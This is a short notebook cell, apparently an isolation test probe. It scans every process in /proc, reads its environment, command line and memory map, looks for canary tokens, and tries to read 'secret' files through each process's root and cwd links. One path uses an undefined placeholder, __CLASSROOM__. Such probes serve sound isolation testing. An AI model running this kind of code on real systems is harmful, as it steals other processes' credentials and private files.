# %% [markdown] stock="it would read other programs of this machine"
# Reads environment, memory, files and folders of every process that /proc shows.

# %% last
import os
import re

MARK = re.compile("cana" + "ry-[a-z]+-[0-9a-f]{16}")
own = os.getpid()
others = [int(each) for each in os.listdir("/proc") if each.isdigit() and int(each) != own]
for process in others:
    print("sees process", process)
    for name in ("environ", "cmdline", "maps"):
        try:
            with open(f"/proc/{process}/{name}", errors="replace") as file:
                text = file.read()
        except OSError:
            continue
        print("GOT:", process, name, len(text), *set(MARK.findall(text)))
    for name in ("root" + __CLASSROOM__ + "/secret", "cwd/secret"):
        try:
            with open(f"/proc/{process}/{name}") as file:
                print("GOT:", process, name, file.read())
        except OSError:
            continue
